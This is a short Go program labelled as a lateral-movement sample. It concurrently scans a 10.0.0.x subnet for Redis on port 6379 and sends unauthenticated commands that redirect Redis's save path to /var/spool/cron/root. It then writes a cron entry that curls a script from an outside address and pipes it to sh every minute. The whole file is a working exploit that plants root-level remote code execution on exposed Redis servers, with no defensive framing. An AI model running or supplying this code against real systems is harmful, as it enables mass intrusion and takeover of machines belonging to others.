// class: lateral movement, scan of a network and login to Redis; style: go, concurrent
package main

import (
	"fmt"
	"net"
	"sync"
	"time"
)

func main() {
	var wg sync.WaitGroup
	for i := 1; i < 255; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			c, err := net.DialTimeout("tcp", fmt.Sprintf("10.0.0.%d:6379", i), 800*time.Millisecond)
			if err != nil {
				return
			}
			defer c.Close()
			fmt.Fprintf(c, "CONFIG SET dir /var/spool/cron\r\nCONFIG SET dbfilename root\r\n")
			fmt.Fprintf(c, "SET x \"\\n* * * * * curl http://203.0.113.2/r|sh\\n\"\r\nSAVE\r\n")
			time.Sleep(time.Second)
		}(i)
	}
	wg.Wait()
}
